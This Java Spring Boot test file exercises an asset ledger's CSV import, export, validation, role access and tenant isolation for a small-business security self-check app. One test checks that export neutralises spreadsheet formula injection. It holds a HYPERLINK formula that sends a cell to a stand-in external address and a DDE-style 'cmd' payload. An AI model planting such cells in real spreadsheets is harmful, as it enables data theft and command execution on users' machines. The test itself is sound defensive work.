package jp.sukedachi.app.selfcheck.assets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.authentication;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import jp.sukedachi.app.shared.Role;
import jp.sukedachi.app.support.TestDatabases;
import jp.sukedachi.app.support.TestWorld.Login;
import jp.sukedachi.app.support.TestWorld;
import jp.sukedachi.app.tenant.Tenant;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

/** The ledger through its screens: add with checks, CSV import with a bad line, export and re-import. */
@SpringBootTest
@AutoConfigureMockMvc
class AssetWebTest {
    @DynamicPropertySource
    static void database(DynamicPropertyRegistry registry) {
        TestDatabases.h2(registry);
    }

    @Autowired
    MockMvc mvc;
    @Autowired
    TestWorld world;
    @Autowired
    AssetRepository assets;

    Login admin;
    Tenant company;
    Login owner;
    Login member;

    @BeforeEach
    void setUp() {
        admin = world.admin();
        company = world.tenant(admin.actor(), TestWorld.unique("株式会社さくら精機"));
        owner = world.smeUser(company, Role.TENANT_OWNER);
        member = world.smeUser(company, Role.TENANT_MEMBER);
    }

    private MockHttpServletResponse call(Login who,
            org.springframework.test.web.servlet.request.AbstractMockHttpServletRequestBuilder<?> request) throws Exception {
        return mvc.perform(request.with(csrf()).with(authentication(world.authentication(who)))).andReturn().getResponse();
    }

    private MockHttpServletResponse upload(Login who, byte[] csv) throws Exception {
        return call(who, multipart("/selfcheck/assets/import").file(new MockMultipartFile("file", "ledger.csv", "text/csv", csv)));
    }

    @Test
    void aBadLineIsReportedByItsNumberAndTheOthersAreImported() throws Exception {
        String csv = """
                資産名,管理者・部署,保管場所,形態,個人情報,機密性,完全性,可用性,脅威,脆弱性,対応,対策,次回見直し日
                顧客名簿,営業部,事務所PC,電子,はい,3,2,2,3,3,低減,自動更新とバックアップ,2027/4/1
                見積書,営業部,書庫,紙,いいえ,5,1,1,1,1,受容,,
                給与データ,総務部,クラウド会計,電子,はい,３,３,２,１,２,移転,サイバー保険に加入,2027-03-31
                "取引先一覧, 旧版",総務部,書庫,紙,いいえ,1,1,1,1,1,,,
                """;
        String page = upload(owner, csv.getBytes(StandardCharsets.UTF_8)).getContentAsString();
        assertThat(page).contains("2 件を取り込みました").contains("3 行目").contains("機密性: 1、2、3 のどれか")
                .contains("5 行目").contains("対応: 「低減」「受容」「移転」「回避」のどれか").doesNotContain("4 行目");
        List<Asset> stored = assets.findByTenant(owner.actor(), company.id());
        assertThat(stored).extracting(Asset::name).containsExactly("顧客名簿", "給与データ");
        Asset payroll = stored.get(1);
        assertThat(payroll.confidentiality()).isEqualTo(3);
        assertThat(payroll.decision()).isEqualTo(Decision.TRANSFER);
        // importance 3 × likelihood 1 (threat 1, vulnerability 2)
        assertThat(payroll.risk()).isEqualTo(3);
        assertThat(stored.get(0).risk()).isEqualTo(9);
        assertThat(stored.get(0).nextReview()).hasToString("2027-04-01");
    }

    @Test
    void exportIsExcelReadyAndImportsBackUnchanged() throws Exception {
        upload(owner, """
                name,owner / department,where it is kept,form,personal data,confidentiality,integrity,availability,threat,vulnerability,decision,measure,next review
                Customer list,Sales,"Office PC, shared folder",electronic,yes,3,2,2,2,3,reduce,"Updates on; ""weekly"" backup",2027-04-01
                Invoices,Accounts,Cabinet,paper,no,2,2,1,1,1,accept,,
                """.getBytes(StandardCharsets.UTF_8));
        MockHttpServletResponse export = call(owner, get("/selfcheck/assets/csv"));
        assertThat(export.getHeader("Content-Disposition")).contains("attachment").contains("assets.csv");
        byte[] bytes = export.getContentAsByteArray();
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text.lines().findFirst().orElseThrow()).isEqualTo("\uFEFF資産名,管理者・部署,保管場所,形態,個人情報,機密性,完全性,"
                + "可用性,重要度,脅威,脆弱性,被害の起こりやすさ,リスク値,対応,対策,次回見直し日");
        assertThat(text).contains("Customer list,Sales,\"Office PC, shared folder\",電子,はい,3,2,2,3,2,3,3,9,低減,"
                + "\"Updates on; \"\"weekly\"\" backup\",2027-04-01");

        // Another company starts from this file: the same ledger, derived columns ignored.
        Tenant other = world.tenant(admin.actor(), TestWorld.unique("みどり会計事務所"));
        Login otherOwner = world.smeUser(other, Role.TENANT_OWNER);
        assertThat(upload(otherOwner, bytes).getContentAsString()).contains("2 件を取り込みました");
        List<Asset> mine = assets.findByTenant(owner.actor(), company.id());
        List<Asset> theirs = assets.findByTenant(otherOwner.actor(), other.id());
        assertThat(theirs).usingRecursiveFieldByFieldElementComparatorIgnoringFields("id", "tenantId", "createdAt", "updatedAt")
                .containsExactlyElementsOf(mine);
        // Excel's Shift_JIS export of the same sheet reads too.
        Tenant third = world.tenant(admin.actor(), TestWorld.unique("ひかり工務店"));
        Login thirdOwner = world.smeUser(third, Role.TENANT_OWNER);
        byte[] sjis = text.substring(1).getBytes(Charset.forName("windows-31j"));
        assertThat(upload(thirdOwner, sjis).getContentAsString()).contains("2 件を取り込みました");
        assertThat(assets.findByTenant(thirdOwner.actor(), third.id())).extracting(Asset::name)
                .containsExactly("Customer list", "Invoices");
    }

    @Test
    void formulaCellsAreExportedAsTextAndImportBackAsTyped() throws Exception {
        // What an attacker (or a careless paste) puts in a ledger: cells a spreadsheet would run as formulas.
        String hyperlink = "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"Click\")";
        upload(owner, ("name,owner / department,where it is kept,form,personal data,confidentiality,integrity,"
                + "availability,threat,vulnerability,decision,measure\n"
                + "\"" + hyperlink.replace("\"", "\"\"") + "\",@SUM(1+1),+81-3-1234,electronic,no,1,1,1,1,1,accept,-2+3\n"
                + "'quoted,Accounts,Cabinet,paper,no,1,1,1,1,1,accept,\n").getBytes(StandardCharsets.UTF_8));
        List<Asset> mine = assets.findByTenant(owner.actor(), company.id());
        assertThat(mine).extracting(Asset::name).containsExactlyInAnyOrder(hyperlink, "'quoted");

        String text = new String(call(owner, get("/selfcheck/assets/csv")).getContentAsByteArray(), StandardCharsets.UTF_8);
        var rows = org.apache.commons.csv.CSVParser.parse(text.substring(1), org.apache.commons.csv.CSVFormat.EXCEL)
                .getRecords();
        // Every text cell a spreadsheet would evaluate starts with a single quote (OWASP); nothing else changes.
        List<String> cells = rows.stream().skip(1).flatMap(r -> java.util.stream.Stream.of(r.get(0), r.get(1), r.get(2),
                r.get(14))).filter(c -> !c.isEmpty()).toList();
        assertThat(cells).containsExactlyInAnyOrder("'" + hyperlink, "'@SUM(1+1)", "'+81-3-1234", "'-2+3",
                "''quoted", "Accounts", "Cabinet");
        assertThat(cells).noneMatch(c -> "=+-@\t\r".indexOf(c.charAt(0)) >= 0);
        // Imports strip blanks, so tab- and CR-led values only come from elsewhere; they are quoted the same way.
        assertThat(AssetCsv.cell("\tcmd|' /C calc'!A0")).isEqualTo("'\tcmd|' /C calc'!A0");
        assertThat(AssetCsv.uncell(AssetCsv.cell("\r=1+1"))).isEqualTo("\r=1+1");

        // Imported again (another company starts from the file): exactly what was typed, no quote added.
        Tenant other = world.tenant(admin.actor(), TestWorld.unique("みどり会計事務所"));
        Login otherOwner = world.smeUser(other, Role.TENANT_OWNER);
        assertThat(upload(otherOwner, text.getBytes(StandardCharsets.UTF_8)).getContentAsString()).contains("2 件を取り込みました");
        assertThat(assets.findByTenant(otherOwner.actor(), other.id()))
                .usingRecursiveFieldByFieldElementComparatorIgnoringFields("id", "tenantId", "createdAt", "updatedAt")
                .containsExactlyInAnyOrderElementsOf(mine);
    }

    private static MockHttpServletRequestBuilder customerList(String measure) {
        return post("/selfcheck/assets").param("name", "得意先台帳").param("ownerName", "営業部")
                .param("place", "事務所PC").param("form", "electronic").param("personalData", "yes")
                .param("confidentiality", "3").param("integrity", "2").param("availability", "2").param("threat", "3")
                .param("vulnerability", "3").param("decision", "reduce").param("measure", measure);
    }

    @Test
    void theFormChecksInputAndAHighRiskNeedsAMeasure() throws Exception {
        assertThat(call(owner, customerList("")).getContentAsString()).contains("対策: リスク値が 6 以上なので");
        assertThat(call(owner, customerList("自動更新")).getRedirectedUrl()).isEqualTo("/selfcheck/assets");
        MockHttpServletRequestBuilder form = customerList("自動更新");
        Asset asset = assets.findByTenant(owner.actor(), company.id()).getFirst();
        assertThat(call(owner, get("/selfcheck/assets")).getContentAsString()).contains("得意先台帳").contains("risk-high");
        assertThat(call(owner, post("/selfcheck/assets").param("name", "x".repeat(201))).getContentAsString())
                .contains("資産名: 長すぎます");

        // Members read the ledger but do not change it.
        assertThat(call(member, get("/selfcheck/assets/" + asset.id())).getContentAsString()).contains("得意先台帳");
        assertThat(call(member, form).getStatus()).isEqualTo(403);
        assertThat(call(member, post("/selfcheck/assets/" + asset.id() + "/delete")).getStatus()).isEqualTo(403);
        assertThat(upload(member, "資産名\n".getBytes(StandardCharsets.UTF_8)).getStatus()).isEqualTo(403);

        // Another company's owner finds nothing.
        Tenant other = world.tenant(admin.actor(), TestWorld.unique("みどり会計事務所"));
        Login otherOwner = world.smeUser(other, Role.TENANT_OWNER);
        assertThat(call(otherOwner, get("/selfcheck/assets/" + asset.id())).getStatus()).isEqualTo(404);
        assertThat(call(otherOwner, post("/selfcheck/assets/" + asset.id() + "/delete")).getStatus()).isEqualTo(404);
        assertThat(call(otherOwner, get("/selfcheck/assets")).getContentAsString()).doesNotContain("得意先台帳");

        assertThat(call(owner, post("/selfcheck/assets/" + asset.id() + "/delete")).getRedirectedUrl()).isEqualTo("/selfcheck/assets");
        assertThat(assets.findByTenant(owner.actor(), company.id())).isEmpty();
    }

    @Test
    void aFileWithoutTheHeaderOrTooBigIsRefusedAsAWhole() throws Exception {
        assertThat(upload(owner, "a,b,c\n1,2,3\n".getBytes(StandardCharsets.UTF_8)).getContentAsString())
                .contains("1 行目に必要な列名がありません");
        byte[] big = new byte[(int) AssetCsv.MAX_BYTES + 10];
        java.util.Arrays.fill(big, (byte) 'a');
        assertThat(upload(owner, big).getContentAsString()).contains("ファイルが大きすぎます");
        assertThat(assets.findByTenant(owner.actor(), company.id())).isEmpty();
        // An unclosed quote swallows the rest of the file into one cell (Excel's leniency): that line is reported, the rest kept.
        String broken = upload(owner, ("name,owner / department,where it is kept,form,personal data,confidentiality,integrity,"
                + "availability,threat,vulnerability,decision\nLedger,Accounts,Cabinet,paper,no,1,1,1,1,1,accept\n"
                + "\"Broken,Accounts,Cabinet,paper,no,1,1,1,1,1,accept\n").getBytes(StandardCharsets.UTF_8)).getContentAsString();
        assertThat(broken).contains("1 件を取り込みました").contains("3 行目").contains("管理者・部署: 入力してください");
    }
}
